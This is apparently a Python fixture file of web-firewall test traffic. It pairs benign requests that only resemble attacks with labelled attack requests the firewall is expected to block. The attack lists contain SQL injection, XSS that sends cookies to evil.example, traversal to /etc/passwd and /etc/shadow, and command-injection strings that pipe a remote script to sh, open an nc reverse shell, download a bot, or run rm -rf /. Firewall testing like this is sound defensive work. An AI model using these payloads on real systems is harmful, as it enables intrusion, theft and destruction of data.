# ruff: noqa: E501  (one case per line reads best as a table)
"""Traffic for the tuning workflow (``quicproxy waf tune`` / ``waf test``), written for it.

:data:`BENIGN`: ~150 ordinary requests of a notes app, a search page, a forum and a
docs site, many of which hold text that looks like an attack and is not (SQL in a code
snippet, HTML in a markdown post, a shell command in a how-to, a file path in a
parameter, quotes in names, tool user agents). :data:`ATTACKS`: 100+ attacks of four
classes (SQL injection, XSS, path traversal, command injection) in the places attackers
put them: ids, search boxes, JSON fields, form fields, cookies, headers, paths.

Each request is a dict in the ``waf test`` requests-file format:
``{method, path, headers, body, expect, class?}``. The routes they are meant for are
:data:`ROUTES` (path prefixes; the backends are filled in by the test).
"""

from __future__ import annotations

import json
import urllib.parse
from typing import Any

__all__ = ["BENIGN", "ATTACKS", "ROUTES", "BROWSER"]

ROUTES = ["/api/notes", "/search", "/forum"]
"Routes of the test config; the docs site and the rest go to the default backend."

BROWSER = {
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "accept-language": "en-US,en;q=0.5",
    "accept-encoding": "gzip, deflate, br",
}
JSON_HEADERS = {**BROWSER, "accept": "application/json", "content-type": "application/json"}
FORM_HEADERS = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}


def _get(path: str, expect: str, headers: dict[str, str] | None = None, /, **query: str) -> dict[str, Any]:
    uri = path + ("?" + urllib.parse.urlencode(query) if query else "")
    return {"method": "GET", "path": uri, "headers": headers or dict(BROWSER), "body": "", "expect": expect}


def _json(method: str, path: str, data: object, expect: str) -> dict[str, Any]:
    return {"method": method, "path": path, "headers": dict(JSON_HEADERS), "body": json.dumps(data), "expect": expect}


def _form(path: str, data: dict[str, str], expect: str) -> dict[str, Any]:
    return {"method": "POST", "path": path, "headers": dict(FORM_HEADERS), "body": urllib.parse.urlencode(data), "expect": expect}


# -- benign ------------------------------------------------------------------------------

NOTE_BODIES = [
    "Reminder: ask Dana about the Q3 budget before Friday.",
    "```sql\nSELECT id, name FROM customers WHERE created_at > '2024-01-01' ORDER BY name;\n```\nThis is the report query.",
    "To find duplicates: select email, count(*) from users group by email having count(*) > 1",
    "Fixed the bug where `DELETE FROM sessions WHERE user_id = ?` ran without the index.",
    "Migration plan:\n1. ALTER TABLE orders ADD COLUMN note text;\n2. UPDATE orders SET note = '' WHERE note IS NULL;",
    "Markdown test: **bold**, _italic_, [link](https://example.com/docs?page=2&lang=en)",
    "In the template use `<div class=\"card\">{{ title }}</div>` and close the div!",
    "The onload handler: `<body onload=\"init()\">` is old style; use addEventListener instead.",
    "Shell snippet for the runbook:\n```\ncd /var/log && tail -n 200 syslog | grep -i error\n```",
    "Backup: tar -czf backup.tar.gz /home/me/projects; then scp it to the NAS",
    "The config lives in ../config/settings.yaml relative to the app folder.",
    "Windows path for the installer: C:\\Program Files\\Tools\\setup.exe",
    "Grocery list: eggs, milk, bread, 'the good' coffee, cheese & crackers",
    "Meeting notes -- we agreed to drop the legacy API; union reps will join the next call.",
    "Python: `if x == 1 or y == 2: print(\"ok\")`",
    "JS: `document.getElementById('app').innerHTML = render(state);`",
    "Regex for dates: ^\\d{4}-\\d{2}-\\d{2}$ (works in grep -E too)",
    "Error from prod: ERROR: syntax error at or near \"FROM\" LINE 1: select * FROM",
    "Kubernetes: kubectl exec -it pod/web-0 -- /bin/sh -c 'env | sort'",
    "Remember the 1=1 trick is what the pentest report flagged; we use bound parameters now.",
    "Recipe: mix 2 cups flour; 1 cup sugar; bake at 180C for 30 min.",
    "Quote of the day: \"Simplicity is prerequisite for reliability.\" -- Dijkstra",
    "The /etc/hosts entry for staging is 10.0.0.12 staging.internal",
    "Use `curl -X POST https://api.example.com/v1/items -d @item.json` to test.",
    "Vacation: Lisbon, 12-19 May. Book the hotel near Rossio.",
]
NOTE_TITLES = [
    "Budget", "Report query", "Duplicate emails", "Session cleanup", "Migration", "Markdown",
    "Template", "Event handlers", "Runbook: logs", "Backups", "Config path", "Installer",
    "Groceries", "Meeting 2024-05-02", "Python tip", "Frontend", "Regex", "Prod error",
    "k8s debug", "Pentest follow-up", "Cake", "Quotes", "Staging hosts", "API testing", "Trip",
]
SEARCHES = [
    "laptop 16gb ram", "o'reilly python cookbook", "best coffee grinder", "select comfort mattress",
    "drop leaf table", "union station parking", "where to buy 1=1 puzzle", "c++ vs rust",
    "how to use <select> element", "rock & roll hall of fame", "javascript alert box example",
    "sql join tutorial select from where", "kids' shoes size 30", "\"exact phrase\" search tips",
    "cat /etc/passwd meaning", "powershell get-childitem recursive", "order by price desc",
    "tom & jerry dvd", "ms-dos dir command", "1/2 inch drill bit",
]
FORUM_POSTS = [
    ("Re: SQL question", "Try: SELECT name FROM items WHERE price < 10 UNION SELECT name FROM archive; it worked for me"),
    ("Welcome!", "Hi all, I'm Seán O'Brien from Cork. Happy to be here :)"),
    ("HTML help", "Why does <img src=\"cat.png\" alt=\"cat\"> not show up in my page?"),
    ("Bash tip", "Use `find . -name '*.log' -exec rm {} \\;` to clean up old logs"),
    ("Script tag", "You need <script src=\"app.js\"></script> at the end of the body"),
    ("Quotes", "He said \"it's fine\" and then it wasn't..."),
    ("Paths", "Copy it to ../../shared/fonts and restart the app"),
    ("Recipe", "Grandma's pie: 3 apples; 200g butter; don't skip the cinnamon!"),
    ("Reply", "+1, same here -- the update broke my setup (v2.3.1)"),
    ("Poll", "Option A || Option B? Vote below & explain why"),
]
NAMES = ["Seán O'Brien", "D'Angelo Russell", "Zoë Saldaña", "Anne-Marie Smith", "Jean \"JJ\" Jones"]
DOC_PAGES = ["getting-started", "install/linux", "install/windows", "config/reference", "faq", "changelog/2024"]
FILE_PARAMS = ["reports/2024/q1.pdf", "images/logo.png", "docs/readme.md", "exports/orders-2024-05.csv"]
USER_AGENTS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
]


def _benign() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for i, (title, body) in enumerate(zip(NOTE_TITLES, NOTE_BODIES, strict=True)):
        note = {"title": title, "body": body, "tags": ["work" if i % 2 else "home"], "pinned": i % 5 == 0}
        out.append(_json("POST", "/api/notes", note, "allow"))
        out.append(_json("PUT", f"/api/notes/{100 + i}", {**note, "body": body + "\n\nEdited."}, "allow"))
    for i in range(10):
        out.append(_get(f"/api/notes/{100 + i}", "allow", dict(JSON_HEADERS)))
    for i, q in enumerate(SEARCHES):
        out.append(_get("/search", "allow", q=q, page=str(1 + i % 3)))
        out.append(_get("/search/suggest", "allow", q=q[: 4 + i % 6]))
    for title, text in FORUM_POSTS:
        out.append(_form("/forum/post", {"title": title, "text": text, "csrf": "f3a9c2d1e8b7"}, "allow"))
        out.append(_form("/forum/threads/42/reply", {"text": text, "csrf": "f3a9c2d1e8b7"}, "allow"))
    for name in NAMES:
        out.append(_form("/forum/profile", {"display_name": name, "bio": f"I'm {name.split()[0]} & I like hiking", "csrf": "f3a9c2d1e8b7"}, "allow"))
    for page in DOC_PAGES:
        out.append(_get(f"/docs/{page}", "allow"))
        out.append(_get(f"/docs/{page}", "allow", {**BROWSER, "referer": "https://www.example.com/docs/?q=select+from+where"}))
    for name in FILE_PARAMS:
        out.append(_get("/files/view", "allow", file=name))
        out.append(_get("/files/download", "allow", path="/home/shared/" + name))
    for ua in USER_AGENTS:
        out.append(_get("/status", "allow", {"user-agent": ua, "accept": "*/*"}))
        out.append(_get("/api/notes", "allow", {"user-agent": ua, "accept": "application/json"}))
    out.append(_get("/", "allow", {**BROWSER, "cookie": "theme=dark; lang=en-US; recent=\"notes,search\""}))
    out.append(_get("/account", "allow", {**BROWSER, "cookie": "prefs={\"sort\":\"date desc\",\"view\":\"list\"}"}))
    out.append(_get("/shop/cart", "allow", {**BROWSER, "cookie": "cart=sku-1|sku-2; session=9f8e7d6c5b4a"}))
    return out


# -- attacks -----------------------------------------------------------------------------

SQLI = [
    "1' OR '1'='1", "1 OR 1=1", "10 UNION SELECT user, password FROM accounts--",
    "1'; DROP TABLE orders; --", "admin'--", "1 AND SLEEP(10)", "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1) UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
    "x' AND 1=(SELECT COUNT(*) FROM users)--", "1 waitfor delay '0:0:5'--",
]
XSS = [
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "\"><script>new Image().src='//evil.example/?c='+document.cookie</script>", "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>", "<body onload=alert('x')>", "<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">x</a>",
    "<details open ontoggle=alert(1)>", "'-alert(1)-'",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini", "/etc/passwd", "../../../proc/self/environ",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts", "..%252f..%252f..%252fetc%252fpasswd",
]
CMDI = [
    "; cat /etc/passwd", "| id", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& nc -e /bin/sh 10.0.0.1 4444",
    "; wget http://evil.example/bot -O /tmp/bot; chmod +x /tmp/bot", "|| ping -c 10 127.0.0.1", "; rm -rf / --no-preserve-root",
]


def _attacks() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []

    def add(kind: str, request: dict[str, Any]) -> None:
        out.append({**request, "class": kind})

    for i, p in enumerate(SQLI):
        add("sqli", _get("/products", "block", id=p))
        add("sqli", [_json("POST", "/api/notes", {"title": p, "body": "x"}, "block"),
                     _form("/forum/post", {"title": "hi", "text": p, "csrf": "f3a9c2d1e8b7"}, "block"),
                     _get("/search", "block", q=p),
                     _json("POST", "/api/notes", {"title": "t", "body": p}, "block")][i % 4])
    add("sqli", _get("/account", "block", {**BROWSER, "cookie": "uid=1' OR '1'='1"}))
    for i, p in enumerate(XSS):
        add("xss", _get("/search", "block", q=p) if i % 2 else _get("/profile", "block", name=p))
        add("xss", [_form("/forum/profile", {"display_name": p, "bio": "x", "csrf": "f3a9c2d1e8b7"}, "block"),
                    _json("PUT", "/api/notes/7", {"title": p, "body": "x"}, "block"),
                    _form("/forum/threads/42/reply", {"text": p, "csrf": "f3a9c2d1e8b7"}, "block")][i % 3])
    add("xss", _get("/", "block", {**BROWSER, "referer": "https://x.example/<script>alert(1)</script>"}))
    for p in TRAVERSAL:
        query = urllib.parse.quote(p, safe="%") if "%" in p else urllib.parse.quote(p)
        add("traversal", {"method": "GET", "path": "/files/view?file=" + query, "headers": dict(BROWSER), "body": "", "expect": "block"})
        add("traversal", {"method": "GET", "path": "/download?path=" + query, "headers": dict(BROWSER), "body": "", "expect": "block"})
    for i, p in enumerate(CMDI):
        add("cmdi", _get("/tools/ping", "block", host="127.0.0.1" + p))
        add("cmdi", [_form("/forum/post", {"title": "t", "text": "x" + p, "csrf": "f3a9c2d1e8b7"}, "block"),
                     _json("POST", "/api/notes", {"title": "x" + p, "body": "b"}, "block")][i % 2])
    # the same payloads in places of another application: a login form, an orders API,
    # a preferences cookie, the user agent
    for kind, payloads in (("sqli", SQLI), ("xss", XSS), ("traversal", TRAVERSAL), ("cmdi", CMDI)):
        for i, p in enumerate(payloads[:8]):
            if kind == "traversal":
                add(kind, _json("POST", "/api/v2/export", {"template": p, "format": "pdf"}, "block"))
                continue
            add(kind, [_form("/login", {"username": p, "password": "hunter2"}, "block"),
                       _json("POST", "/api/v2/orders", {"customer": p, "qty": 1}, "block"),
                       _get("/home", "block", {**BROWSER, "cookie": "prefs=" + urllib.parse.quote(p)}),
                       _get("/home", "block", {**BROWSER, "user-agent": "Mozilla/5.0 " + p})][i % 4])
    return out


BENIGN = _benign()
ATTACKS = _attacks()
